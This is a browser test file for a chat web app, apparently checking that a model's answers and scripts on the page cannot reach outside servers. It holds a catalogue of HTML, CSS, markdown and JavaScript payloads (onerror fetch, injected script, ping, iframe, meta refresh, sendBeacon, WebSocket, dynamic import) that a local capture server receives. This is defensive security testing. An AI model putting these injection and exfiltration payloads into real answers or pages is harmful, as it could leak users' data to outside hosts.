"""What a model says can carry nothing away: no picture, style, ping, frame or script of an answer reaches elsewhere."""

import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page, expect

from fake_provider.directive import answer_option
from tests.accounts import sign_up
from tests.browser import ask, messages, visitor
from tests.stack import BACKEND, Stack, wait_until

pytestmark = pytest.mark.browser

END = "That is all."
ANSWER = """![a picture]({url}/markdown.png) ![][ref]

[ref]: {url}/reference.png

<img src="{url}/html.png" onerror="fetch('{url}/onerror')"> <a href="{url}/link" ping="{url}/ping">a link</a>

<script>fetch("{url}/script")</script><style>body{{background:url({url}/style.png)}}@import "{url}/import.css";</style>

<iframe src="{url}/frame"></iframe><object data="{url}/object"></object><embed src="{url}/embed">
<link rel="prefetch" href="{url}/prefetch"><link rel="stylesheet" href="{url}/sheet.css">
<meta http-equiv="refresh" content="0;url={url}/refresh">
<video src="{url}/video" autoplay poster="{url}/poster.png"></video><audio src="{url}/audio" autoplay></audio>
<svg><image href="{url}/svg.png"/><use href="{url}/use.svg#a"/></svg><base href="{url}/base/">
<form action="{url}/form"><button>send</button></form><div style="background:url({url}/attribute.png)">box</div>

$\\href{{{url}/formula}}{{x}} \\includegraphics{{{url}/formula.png}}$

[a link]({url}/markdown-link "title") <{url}/automatic>

That is all."""
# With the page's own authority, past whatever draws the answers: the policy alone must hold.
TRIES = """async (url) => {
  const add = (tag, properties) => document.body.append(Object.assign(document.createElement(tag), properties));
  const ended = (source) => new Promise((done) => { source.onload = source.onopen = source.onerror = done; });
  const tries = [
    () => ended(Object.assign(new Image(), { src: `${url}/image` })),
    () => fetch(`${url}/fetch`, { mode: "no-cors" }),
    () => navigator.sendBeacon(`${url}/beacon`, "text"),
    () => ended(new WebSocket(url.replace("http", "ws"))),
    () => ended(new EventSource(`${url}/events`)),
    () => add("style", { textContent: `body { background: url(${url}/css) }` }),
    () => add("link", { rel: "stylesheet", href: `${url}/sheet` }),
    () => add("script", { src: `${url}/script` }),
    () => add("iframe", { src: `${url}/frame` }),
    () => add("object", { data: `${url}/object` }),
    () => { document.body.style.backgroundImage = `url(${url}/background)`; },
    () => new FontFace("x", `url(${url}/font)`).load(),
    () => new Worker(`${url}/worker`),
    () => import(`${url}/module`),
    () => {
      add("iframe", { name: "sink" });
      add("form", { action: `${url}/form`, target: "sink" });
      document.forms[document.forms.length - 1].submit();
    },
  ];
  for (const attempt of tries) { try { await attempt(); } catch {} }
  await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
  return tries.length;
}"""


@dataclass
class Elsewhere:
    """A server of somebody else's, and what it was asked for."""

    url: str
    asked: list[str] = field(default_factory=list)


@contextmanager
def another_server() -> Iterator[Elsewhere]:
    class Noting(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            found.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "0")
            self.end_headers()

        do_POST = do_OPTIONS = do_HEAD = do_GET

        def log_message(self, *_: object) -> None:
            """Nothing: the tests' output is for the tests."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Noting)
    found = Elsewhere(f"http://127.0.0.1:{server.server_port}")
    serving = threading.Thread(target=server.serve_forever)
    serving.start()
    yield found
    server.shutdown()
    serving.join()
    server.server_close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    with another_server() as server:
        yield server


@pytest.fixture
def page(browser: Browser, stack: Stack) -> Iterator[Page]:
    with visitor(browser, stack) as context:
        yield context.new_page()


def requests_of(page: Page, url: str) -> list[str]:
    """Also those that never reach a server."""
    found: list[str] = []
    page.context.on("request", lambda request: found.append(request.url) if request.url.startswith(url) else None)
    return found


def settle(page: Page) -> None:
    """Return when whatever was drawn has asked for what it wants, and a request made after it is answered."""
    page.evaluate("new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
    page.evaluate("fetch('/health/live')")


def test_an_answer_asks_for_nothing_elsewhere(page: Page, elsewhere: Elsewhere) -> None:
    tried = requests_of(page, elsewhere.url)
    page.goto("/")
    ask(page, f"Show me something. [[rate=0 {answer_option(ANSWER.format(url=elsewhere.url))}]]")
    expect(messages(page).get_by_text(END)).to_be_visible()
    page.reload()
    expect(messages(page).get_by_text(END)).to_be_visible()
    assert page.locator("[ping], iframe, object, embed, base, [onerror], main style, main script").count() == 0
    settle(page)
    assert tried == elsewhere.asked == []


def test_the_policy_alone_holds_whatever_is_drawn(page: Page, elsewhere: Elsewhere) -> None:
    page.goto("/")
    expect(page.get_by_role("textbox", name="Message")).to_be_visible()
    assert page.evaluate(TRIES, elsewhere.url) == 15
    settle(page)
    assert elsewhere.asked == []


def test_the_other_server_can_be_reached_at_all(page: Page, elsewhere: Elsewhere) -> None:
    """The control of the tests above: from a page without our policy the same tries arrive."""
    with another_server() as unguarded:
        page.goto(unguarded.url)
        page.evaluate(TRIES, elsewhere.url)
        arrive = {"/image", "/fetch", "/beacon", "/sheet", "/background"}
        wait_until(lambda: arrive <= set(elsewhere.asked), what=f"{arrive} arrive")


def test_the_other_pages_keep_to_the_policy(page: Page, stack: Stack) -> None:
    client = stack.client()
    sign_up(stack, client, "operator@example.org")
    promote = "from apps.accounts.models import User; User.objects.filter(email='operator@example.org')"
    promote += ".update(is_staff=True, is_superuser=True)"
    shell = [sys.executable, "manage.py", "shell", "--verbosity", "0", "-c", promote]
    subprocess.run(shell, cwd=BACKEND, env=stack.gateway.env, check=True, timeout=60)
    session = client.cookies["sessionid"]
    page.context.add_cookies([{"name": "sessionid", "value": session, "url": stack.gateway.url}])
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text) if message.type == "error" else None)
    page.goto("/api/docs")
    expect(page.get_by_text("Lamla AI").first).to_be_visible()
    page.goto("/admin/")
    expect(page.get_by_role("link", name="Users")).to_be_visible()
    page.goto("/admin/accounts/user/?q=operator@example.org")  # other tests' users may fill the first page
    expect(page.get_by_text("operator@example.org").first).to_be_visible()
    assert said == []
